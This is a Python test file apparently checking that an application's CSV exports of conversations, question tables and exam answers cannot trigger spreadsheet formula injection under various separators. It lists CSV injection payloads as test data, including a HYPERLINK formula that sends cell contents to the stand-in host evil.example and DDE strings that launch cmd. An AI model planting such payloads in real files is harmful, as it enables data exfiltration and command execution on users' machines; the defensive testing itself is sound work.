"""Files for spreadsheets: no cell is run, at whatever separator the program splits that opens them."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from studio.cli.questions import QuestionTable
from studio.data.importing.pipeline import read_files
from studio.data.versions.export import writer
from studio.domain.conversation import Conversation
from studio.sharing.proof_report.figures import as_csv
from tests.proof_sample import sample_proof

SEPARATORS = (",", ";", "\t", "|")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(A1)",
    "+SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "- cmd|' /C calc'!A0",
)
STARTS = ("", "hello;", "hello; ", "hello\t", "hello|", "hello\n", "hello\r\n", 'hello;"', "a;b;c;")
ATTACKS = [start + formula for start in STARTS for formula in FORMULAS]
HARMLESS = "Sim.\n- Pix\n- boleto\n+55 11 5555-0100; -3\nR$ 10 (= 2 x 5)"


def _cells(text: str) -> list[str]:
    """Every cell of a file as each program would split it."""
    found = []
    for separator in SEPARATORS:
        found += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
        found += [piece for line in text.splitlines() for piece in line.split(separator)]  # one that knows no quotes
    return [cell.strip().strip('"').strip() for cell in found]


def _runs(cell: str) -> bool:
    return cell.startswith(("=", "@", "+S", "-2+", "- cmd"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_an_export_is_a_formula_and_it_reads_back(tmp_path: Path, attack: str) -> None:
    path = tmp_path / "out.csv"
    examples = [Conversation.pair(attack, "Sim."), Conversation.pair("Oi?", attack), Conversation.pair("a", HARMLESS)]
    writer("csv")(path, examples)
    text = path.read_bytes().decode("utf-8-sig")
    assert not [cell for cell in _cells(text) if _runs(cell)]
    assert HARMLESS.splitlines()[1] in text
    read = read_files([path]).conversations
    assert [(c.question, c.answer) for c in read] == [(_plain(c.question), _plain(c.answer)) for c in examples]


@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_cell_of_answered_questions_is_a_formula(tmp_path: Path, separator: str) -> None:
    table = QuestionTable("q.csv", ("question",), tuple((attack,) for attack in ATTACKS), separator)
    table.with_column("answer", ATTACKS).write(tmp_path / "out.csv")
    assert not [cell for cell in _cells((tmp_path / "out.csv").read_text(encoding="utf-8")) if _runs(cell)]


def _plain(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n").strip()


def test_no_cell_of_an_exams_answers_is_a_formula() -> None:
    proof = sample_proof()
    evil = [
        proof.answers[0].model_copy(update=dict.fromkeys(("question", "expected", "after", "topic"), attack))
        for attack in ATTACKS
    ]
    text = as_csv(proof.model_copy(update={"answers": tuple(evil)})).removeprefix("\ufeff")
    assert not [cell for cell in _cells(text) if _runs(cell)]
    assert len(list(csv.DictReader(io.StringIO(text, newline="")))) == len(ATTACKS)
